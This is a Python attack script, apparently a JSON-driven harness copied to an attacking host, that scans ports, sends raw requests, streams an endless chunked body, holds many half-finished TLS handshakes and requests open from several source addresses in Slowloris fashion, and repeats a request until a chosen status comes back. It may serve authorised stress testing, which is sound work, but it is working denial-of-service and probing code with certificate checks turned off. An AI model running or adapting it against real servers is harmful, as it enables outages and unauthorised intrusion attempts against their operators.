"""Attacks a web server, and prints as JSON what came of it.

It is sent to the attacking host as it stands, for Debian's own python3, and told as JSON what to do.
"""

from __future__ import annotations

import asyncio
import json
import ssl
import sys
import time
from typing import Any

TLS = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
TLS.check_hostname = False
TLS.verify_mode = ssl.CERT_NONE
HTTPS = 443
AT_ONCE = 200
# What is dropped never answers.
PATIENCE = 3.0


async def connect(
    about: dict[str, Any], source: str, context: ssl.SSLContext | None = TLS
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """Come from one of one's addresses."""
    return await asyncio.open_connection(about["target"], HTTPS, ssl=context, local_addr=(source, 0))


async def scan(about: dict[str, Any]) -> list[int]:
    """The ports that take a connection."""
    gate = asyncio.Semaphore(AT_ONCE)

    async def knock(port: int) -> int:
        try:
            async with gate, asyncio.timeout(PATIENCE):
                _, writer = await asyncio.open_connection(about["target"], port)
        except OSError:
            return 0
        writer.close()
        return port

    return [port for port in await asyncio.gather(*map(knock, about["ports"])) if port]


async def say(about: dict[str, Any]) -> list[str]:
    """All that is answered to each of these, sent as they stand over a connection of their own."""
    return [await _say(about, request) for request in about["requests"]]


async def _say(about: dict[str, Any], request: str) -> str:
    reader, writer = await connect(about, about["sources"][0])
    answer = b""
    try:
        async with asyncio.timeout(PATIENCE):
            writer.write(request.encode("latin-1"))
            while read := await reader.read(65536):
                answer += read
    except OSError:
        pass
    finally:
        writer.transport.abort()
    return answer.decode(errors="replace")


async def endless(about: dict[str, Any]) -> dict[str, Any]:
    """A body in pieces that does not end by itself: what was answered, and how much was taken until then."""
    reader, writer = await connect(about, about["sources"][0])
    writer.write(about["requests"][0].encode())
    piece = b"10000\r\n" + b"x" * 0x10000 + b"\r\n"
    taken = 0
    answer = asyncio.create_task(reader.read(65536))
    try:
        while not answer.done() and taken < about["most"]:
            writer.write(piece)
            taken += 0x10000
            await writer.drain()
    except OSError:
        pass
    done, _ = await asyncio.wait([answer], timeout=PATIENCE)
    said = answer.result().decode(errors="replace") if done and answer.exception() is None else ""
    writer.transport.abort()
    return {"answer": said, "taken": taken}


async def slow(about: dict[str, Any]) -> dict[str, Any]:
    """Hold as many connections as one is let, each in the middle of what it says: for how long one could."""
    ends = time.monotonic() + about["seconds"]
    tasks = [
        asyncio.create_task(_hold(about, source, kind, ends))
        for source in about["sources"]
        for kind in about["kinds"]
        for _ in range(about["each"])
    ]
    held = await asyncio.gather(*tasks)
    kinds = [kind for _ in about["sources"] for kind in about["kinds"] for _ in range(about["each"])]
    return {
        "tried": len(held),
        "admitted": sum(seconds >= 0 for seconds in held),
        "longest": {kind: max(s for s, of in zip(held, kinds, strict=True) if of == kind) for kind in about["kinds"]},
    }


async def _hold(about: dict[str, Any], source: str, kind: str, ends: float) -> float:
    try:
        async with asyncio.timeout(PATIENCE):
            reader, writer = await connect(about, source, None if kind == "handshake" else TLS)
    except OSError:
        return -1
    began = time.monotonic()
    try:
        # The first bytes of a handshake; or of a request.
        writer.write(b"\x16\x03\x01\x02\x00" if kind == "handshake" else about["begin"][kind].encode())
        cut = asyncio.create_task(reader.read())
        while not cut.done() and time.monotonic() < ends:
            await asyncio.wait([cut], timeout=4)
            writer.write(b"\x01" if kind == "handshake" else about["drip"][kind].encode())
        cut.cancel()
    except OSError:
        pass
    finally:
        writer.transport.abort()
    return time.monotonic() - began


async def guess(about: dict[str, Any]) -> list[int]:
    """The statuses of one request made again and again, until one of these is answered."""
    statuses: list[int] = []
    while len(statuses) < about["times"] and (not statuses or statuses[-1] not in about["until"]):
        answer = await _say(about, about["requests"][0])
        statuses.append(int(answer.split(" ", 2)[1]) if answer else 0)
    return statuses


DEEDS = {"scan": scan, "say": say, "endless": endless, "slow": slow, "guess": guess}


def main() -> None:
    about = json.loads(sys.argv[1])
    print(json.dumps(asyncio.run(DEEDS[about["deed"]](about))))


if __name__ == "__main__":
    main()
